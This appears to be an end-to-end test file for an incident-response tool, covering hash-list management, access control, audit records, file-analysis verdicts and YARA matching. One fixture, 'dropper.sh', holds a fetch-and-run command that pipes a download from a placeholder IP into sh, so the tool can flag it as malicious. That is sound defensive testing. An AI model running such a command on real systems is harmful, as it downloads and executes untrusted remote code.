import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LiveBench } from "./support/live-e2e.ts";

// The hash lists and `analyze`, every part a real process: `custody serve`, an enrolled agent running
// `custody agent run` with YARA rules in its local policy, `custody hashlist` and `custody live run`.
const bench = new LiveBench();
const { work } = bench;
const CASE = "IR-2026-14";
const files = join(work, "device-files");
const HAS_YARA = spawnSync("yara", ["--version"]).status === 0;
let deviceId = "";

const custody = (args: string[]) => bench.custody(args);
const alice = () => bench.custodian();
const sha256 = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");
const as = (who: string) => bench.as(who);

function analyze(path: string): Record<string, unknown> {
  const ran = custody([
    "live",
    "run",
    deviceId,
    "--case",
    CASE,
    ...as("rita"),
    "--",
    "analyze",
    path,
    "-output",
    "json",
  ]);
  expect(ran.code, ran.stderr).toBe(0);
  return JSON.parse(ran.stdout.trim().split("\n")[0] ?? "{}") as Record<string, unknown>;
}

beforeAll(async () => {
  bench.init();
  mkdirSync(files);
  writeFileSync(join(files, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
  writeFileSync(join(files, "tool.sh"), "#!/bin/sh\necho a tool the SOC knows\n");
  writeFileSync(join(files, "marked.bin"), "padding CUSTODY_TEST_MARKER_7731 padding\n");
  writeFileSync(join(files, "notes.txt"), "nothing to see\n");
  writeFileSync(join(files, "truncated.elf"), readFileSync(process.execPath).subarray(0, 4096));
  // hash lists made locally, before any server: facts of the log, read again by every later open
  const bad = custody([
    "hashlist",
    "add",
    "known-bad",
    join(files, "dropper.sh"),
    "--note",
    "seen in IR-2026-9",
    "--identity",
    join(work, "alice.pem"),
  ]);
  expect(bad.code, bad.stderr).toBe(0);
  expect(bad.stdout).toContain(`${sha256(join(files, "dropper.sh"))} on known-bad`);
  await bench.serve(["rita"], CASE);
  deviceId = bench.deviceId;
  mkdirSync(join(work, "rules"));
  writeFileSync(
    join(work, "rules", "test.yar"),
    'rule custody_test_marker { strings: $a = "CUSTODY_TEST_MARKER_7731" condition: $a }\n',
  );
  bench.amendPolicy({ yaraRules: join(work, "rules") });
  await bench.startAgent();
  for (const scope of [`device:${deviceId}`, `case:${CASE}`])
    await alice().grant({ name: "rita", role: "responder", scope });
}, 180_000);

afterAll(async () => {
  await bench.close();
});

describe("hash lists", () => {
  it("are managed by custodians through the server, readable by responders, and state facts", async () => {
    const good = custody(["hashlist", "add", "known-good", join(files, "tool.sh"), ...as("alice")]);
    expect(good.code, good.stderr).toBe(0);
    const listed = custody(["hashlist", "list", ...as("rita"), "--json"]);
    expect(listed.code, listed.stderr).toBe(0);
    const entries = JSON.parse(listed.stdout) as {
      list: string;
      sha256: string;
      name?: string;
      addedBy: string;
    }[];
    expect(entries.map((e) => [e.list, e.sha256, e.name])).toEqual([
      ["known-bad", sha256(join(files, "dropper.sh")), "dropper.sh"],
      ["known-good", sha256(join(files, "tool.sh")), "tool.sh"],
    ]);
    // a responder reads the lists but does not change them; the refusal is recorded
    const refused = custody(["hashlist", "add", "known-good", "--sha256", "a".repeat(64), ...as("rita")]);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/ERR_ACCESS_DENIED/);
    // one digest is never on both lists
    const both = custody(["hashlist", "add", "known-good", join(files, "dropper.sh"), ...as("alice")]);
    expect(both.stderr).toMatch(/ERR_CONFLICT/);
    expect(
      custody(["hashlist", "add", "known-evil", "--sha256", "a".repeat(64), ...as("alice")]).stderr,
    ).toMatch(/ERR_USAGE/);
    expect(custody(["hashlist", "add", "known-bad", "--sha256", "xyz", ...as("alice")]).stderr).toMatch(
      /ERR_USAGE/,
    );
    expect(custody(["hashlist", "remove", "known-bad", "b".repeat(64), ...as("alice")]).stderr).toMatch(
      /ERR_NOT_FOUND/,
    );
    const added = await alice().addHash({ list: "known-bad", sha256: "c".repeat(64), note: "to be removed" });
    expect(added.addedBy).toBe("alice");
    await alice().removeHash("known-bad", "c".repeat(64));
    const records = await alice().showAudit();
    const facts = records.filter((r) => r.action.startsWith("hashlist.") && r.outcome === "allow");
    expect(facts.map((r) => r.action)).toEqual(
      expect.arrayContaining(["hashlist.added", "hashlist.removed"]),
    );
    expect(
      records.some((r) => r.action === "hashlist.manage" && r.outcome === "deny" && r.actor === "rita"),
    ).toBe(true);
    expect((await alice().listHashes("known-bad")).map((e) => e.sha256)).toEqual([
      sha256(join(files, "dropper.sh")),
    ]);
  });
});

describe("analyze", () => {
  it("a file on known-bad is malicious, one on known-good clean: the vault looks the device's digest up", () => {
    const bad = analyze(join(files, "dropper.sh"));
    expect(bad).toMatchObject({
      verdict: "malicious",
      type: "script",
      interpreter: "/bin/sh",
      sha256: sha256(join(files, "dropper.sh")),
    });
    expect((bad.reasons as string[]).join()).toMatch(
      /sha256 on known-bad \(dropper\.sh: seen in IR-2026-9\), added by alice/,
    );
    const good = analyze(join(files, "tool.sh"));
    expect(good.verdict).toBe("clean");
    expect((good.reasons as string[]).join()).toMatch(/on known-good .*the digest the device reported/);
  }, 60_000);

  it("a truncated ELF is suspicious for its header; a plain file unknown; a real ELF has its header facts", () => {
    const truncated = analyze(join(files, "truncated.elf"));
    expect(truncated).toMatchObject({ verdict: "suspicious", type: "elf" });
    expect((truncated.reasons as string[]).join()).toMatch(/past the end of the file/);
    const plain = analyze(join(files, "notes.txt"));
    expect(plain).toMatchObject({ verdict: "unknown", type: "text" });
    const node = analyze(process.execPath);
    expect(node).toMatchObject({ type: "elf", headers: { format: "elf", bits: 64 } });
    expect(typeof node.entropy).toBe("number");
    expect(node.md5).toMatch(/^[0-9a-f]{32}$/);
  }, 120_000);

  it.skipIf(!HAS_YARA)(
    "a YARA rule match is malicious, with the rule set's digest and the tool's version",
    () => {
      const marked = analyze(join(files, "marked.bin"));
      expect(marked.verdict).toBe("malicious");
      const rules = readFileSync(join(work, "rules", "test.yar"));
      expect(marked.yara).toMatchObject({
        ran: true,
        matches: ["custody_test_marker"],
        rulesSha256: createHash("sha256").update(rules).digest("hex"),
        version: expect.stringMatching(/^\d+\.\d+/),
      });
    },
    60_000,
  );

  it("the verdict is in the command's signed live.result record", async () => {
    const results = (await alice().showAudit()).filter(
      (r) => r.action === "live.result" && String(r.details.line ?? "").startsWith("analyze"),
    );
    expect(results.map((r) => r.details.verdict)).toEqual(
      expect.arrayContaining(["malicious", "clean", "suspicious", "unknown"]),
    );
  });
});
